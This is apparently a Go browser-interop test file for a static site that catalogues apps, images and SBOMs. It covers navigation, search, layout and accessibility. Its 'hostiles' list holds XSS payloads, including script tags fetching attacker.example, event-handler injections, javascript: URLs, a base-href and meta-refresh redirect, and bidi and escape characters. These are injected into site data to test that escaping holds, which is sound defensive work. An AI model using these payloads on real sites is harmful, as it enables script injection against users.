//go:build interop

package site

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"path"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/libresh/libre/internal/compare"
	"github.com/libresh/libre/internal/describe"
	"github.com/libresh/libre/internal/sbom"
	"github.com/libresh/libre/internal/testkit"
)

// saw is what the browser saw.
type saw struct {
	Requests, Ran, Errors                                       []string
	Apps, None, Filtered, Components, Passes, Pages             int
	First, Status, App, Image, Version, Order, Download, French string
	Language                                                    string
	Found, Sorted, Component, Counts                            []string
	Wide, Violations                                            []string
	Grounds                                                     map[string]string
}

func browse(t *testing.T, task, base string, paths ...string) (s saw) {
	t.Helper()
	out := testkit.Browser(t, "testdata/browser.cjs", append([]string{task, base}, paths...)...)
	if err := json.Unmarshal(out, &s); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	return s
}

// served gives the address of a site as libre serve shows it.
func served(t *testing.T, dir string) string {
	t.Helper()
	h, err := NewHandler(dir)
	if err != nil {
		t.Fatal(err)
	}
	server := httptest.NewServer(h)
	t.Cleanup(server.Close)
	return server.URL + "/"
}

// pagesOf lists the pages of a site that show all that there is.
func pagesOf(files map[string][]byte) []string {
	var pages []string
	for _, name := range slices.Sorted(maps.Keys(files)) {
		if path.Ext(name) == ".html" && !strings.Contains(name, "arm64") && !strings.Contains(name, "frontend.") {
			pages = append(pages, name)
		}
	}
	return pages
}

// People find an app and a component, sort, download and change the language: from a server,
// and from a folder.
func TestInteropPeopleFindTheirWay(t *testing.T) {
	catalogue, apps := sample()
	dir := inFolder(t, catalogue, apps...)
	for _, base := range []string{served(t, dir), "file://" + dir + "/"} {
		got := browse(t, "walk", base)
		want := saw{
			Requests: []string{}, Ran: []string{}, Errors: []string{}, Apps: 2, First: "#content", Found: []string{"notes"}, Status: "1 of 2 shown", None: 0, Filtered: 2,
			Sorted: []string{"docs", "notes"}, App: "docs 5.4.1-2", Image: "backend linux/amd64", Components: 5, Component: []string{"openssl"},
			Version: "5.4", Order: "descending", Download: "docs-backend-default.5.4.1-2.linux-amd64.cdx.json", Language: "fr", French: "Contenu 5 composants",
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s:\n%+v\nwant\n%+v", base, got, want)
		}
	}
}

// A long list is searched, filtered and sorted as a whole from a server. From a folder, from
// which browsers read no other file, the page says that it is searched alone.
func TestInteropLongListsAreSearchedAsAWhole(t *testing.T) {
	catalogue, _ := sample()
	var apps []*App
	for n := range 500 {
		r := sampleRelease("app", "default", "1.0", 1)
		r.Date, r.Images, r.Changes = r.Date.AddDate(0, 0, n), nil, nil
		apps = append(apps, &App{Name: fmt.Sprintf("app-%04d", n), Document: sampleDocument("app", "default", "1.0", 1), Releases: []Release{r}})
	}
	for n := range 500 {
		apps[499].Releases = append(apps[499].Releases, Release{Variant: fmt.Sprintf("variant-%03d", n), Tag: fmt.Sprintf("0.%d-1", n), Reference: registry + "/app-0499:0", Digest: digest(n)})
	}
	dir := inFolder(t, catalogue, apps...)
	got := browse(t, "pages", served(t, dir))
	want := saw{
		Requests: []string{}, Ran: []string{}, Errors: []string{}, App: got.App, Found: []string{"app-0007"}, Sorted: []string{"app-0499", "app-0498"},
		Version: "variant-499", Counts: []string{"1 of 500 shown", "1 of 501 shown"},
	}
	if !reflect.DeepEqual(got, want) || got.App < "app-0100" {
		t.Errorf("from a server:\n%+v\nwant\n%+v", got, want)
	}
	alone := "0 of 500 shown Only this page is searched: the browser does not read the others."
	if got := browse(t, "pages", "file://"+dir+"/"); !slices.Equal(got.Counts, []string{alone}) || len(got.Requests)+len(got.Ran) > 0 {
		t.Errorf("from a folder:\n%+v", got)
	}
}

func TestInteropPagesFitAPhoneInLightAndDark(t *testing.T) {
	catalogue, apps := sample()
	long := strings.Repeat("unbreakable", 20)
	apps[0].Releases[0].Images[0].Platforms[0].SBOM.Components[0].Name = long
	apps[0].Releases[0].Document.Spec.Description = long
	files := written(t, catalogue, apps...)
	got := browse(t, "widths", served(t, inFolder(t, catalogue, apps...)), pagesOf(files)...)
	if len(got.Wide) > 0 {
		t.Errorf("too wide: %s", strings.Join(got.Wide, "\n"))
	}
	if got.Grounds["light"] == got.Grounds["dark"] || got.Grounds["light"] == "" {
		t.Errorf("the colours are %v", got.Grounds)
	}
}

func TestInteropAxeFindsNothingSerious(t *testing.T) {
	catalogue, apps := sample()
	files := written(t, catalogue, apps...)
	got := browse(t, "axe", served(t, inFolder(t, catalogue, apps...)), pagesOf(files)...)
	if len(got.Violations) > 0 || got.Passes < 1000 {
		t.Errorf("%d rules pass; violations:\n%s", got.Passes, strings.Join(got.Violations, "\n"))
	}
}

// hostiles are texts that become script or markup where they are not escaped.
var hostiles = []string{
	`<script>window.pwned=1;fetch("https://attacker.example/")</script>`,
	`"><img src="https://attacker.example/x.png" onerror="window.pwned=1">`,
	`' onmouseover='window.pwned=1' style='background:url(https://attacker.example/)`,
	`</title></style></pre></code><svg onload="window.pwned=1"><iframe src="javascript:parent.pwned=1"></iframe>`,
	`javascript:window.pwned=1`, `{{.}}${1}<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
	"\x1b]0;title\x07\u202egnp.exe\u0000<b>",
}

// poison puts hostile texts into every string that is not part of an address of a page.
func poison(v reflect.Value, n *int) {
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() {
			poison(v.Elem(), n)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Field(i).CanSet() {
				poison(v.Field(i), n)
			}
		}
	case reflect.Slice:
		for i := range v.Len() {
			poison(v.Index(i), n)
		}
	case reflect.Map:
		poisoned := reflect.MakeMap(v.Type())
		for _, key := range v.MapKeys() {
			value := reflect.New(v.Type().Elem()).Elem()
			value.Set(v.MapIndex(key))
			poison(value, n)
			if v.Type().Elem() != reflect.TypeFor[describe.Component]() { // images are found by their component
				name := reflect.New(v.Type().Key()).Elem()
				name.SetString(key.String() + hostiles[*n%len(hostiles)])
				key = name
			}
			poisoned.SetMapIndex(key, value)
		}
		if !v.IsNil() {
			v.Set(poisoned)
		}
	case reflect.String:
		v.SetString(hostiles[*n%len(hostiles)])
		*n++
	}
}

// hostileSite has hostile texts in documents, SBOMs, findings, notes and comparisons.
func hostileSite(t *testing.T) map[string][]byte {
	t.Helper()
	catalogue, apps := sample()
	n := 0
	seen := map[*describe.Application]bool{}
	for _, app := range apps {
		for i := range app.Releases {
			r := &app.Releases[i]
			if r.Document == nil {
				continue
			}
			if !seen[r.Document] {
				seen[r.Document] = true
				poison(reflect.ValueOf(r.Document).Elem(), &n)
				r.Document.Metadata.Name, r.Document.Spec.Homepage = app.Name, hostiles[4]
				r.Document.Spec.Source = "https://attacker.example/\"><script>window.pwned=1</script>"
			}
			r.Digest, r.Reference = hostiles[1], hostiles[2]+":1"
			for j := range r.Images {
				image := &r.Images[j]
				image.Digest, image.Reference, image.Cosign = hostiles[0], hostiles[1], hostiles[3]
				for k := range image.Platforms {
					p := &image.Platforms[k]
					for m := range p.SBOM.Components {
						c := &p.SBOM.Components[m]
						*c = sbom.Component{ID: c.ID, Name: hostiles[m%len(hostiles)], Version: hostiles[(m+1)%len(hostiles)], Type: hostiles[(m+2)%len(hostiles)], License: sbom.License{Expression: hostiles[(m+3)%len(hostiles)]}}
					}
					for m := range p.Findings {
						poison(reflect.ValueOf(&p.Findings[m]).Elem(), &n)
					}
				}
			}
			if r.Changes != nil {
				r.Changes.Notes = []compare.Note{{Version: hostiles[0], Page: hostiles[4], Text: strings.Join(hostiles, "\n")}}
			}
		}
	}
	apps[0].Releases[0].Changes = compared(&apps[0].Releases[1], &apps[0].Releases[0])
	apps[0].Releases[0].Changes.Notes = []compare.Note{{Version: hostiles[0], Page: hostiles[4], Text: strings.Join(hostiles, "\n")}}
	catalogue.Database.From = hostiles[0]
	return written(t, catalogue, apps...)
}

// What others wrote does nothing under the policy of the pages themselves.
func TestInteropHostileTextsDoNothing(t *testing.T) {
	files := hostileSite(t)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		name := strings.TrimPrefix(r.URL.Path, "/")
		w.Header().Set("Content-Type", contentTypes[path.Ext(name)])
		_, _ = w.Write(files[name])
	}))
	t.Cleanup(server.Close)
	pages := pagesOf(files)
	got := browse(t, "hostile", server.URL+"/", pages...)
	if got.Pages != len(pages) || len(got.Requests)+len(got.Ran)+len(got.Errors) > 0 {
		t.Errorf("%d of %d pages\nrequests: %q\nran: %q\nerrors: %q", got.Pages, len(pages), got.Requests, got.Ran, got.Errors)
	}
	for name, content := range files {
		if path.Ext(name) == ".html" && strings.ContainsAny(string(content), "\x1b\x07\x00\u202e") {
			t.Errorf("%s has characters that change what is shown", name)
		}
	}
}
